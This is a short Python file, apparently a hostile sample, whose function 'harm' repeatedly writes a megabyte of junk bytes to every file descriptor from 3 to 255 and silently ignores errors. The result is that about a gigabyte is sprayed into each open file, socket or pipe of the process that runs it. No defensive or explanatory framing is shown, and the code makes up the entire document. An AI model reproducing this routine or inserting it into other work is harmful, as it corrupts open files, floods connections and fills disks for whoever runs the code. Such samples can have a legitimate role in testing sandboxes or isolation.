import os


def everywhere(data):
    for number in range(3, 256):
        try:
            os.write(number, data)
        except OSError:
            pass


def harm():
    for _ in range(1024):
        everywhere(b'x' * (1 << 20))
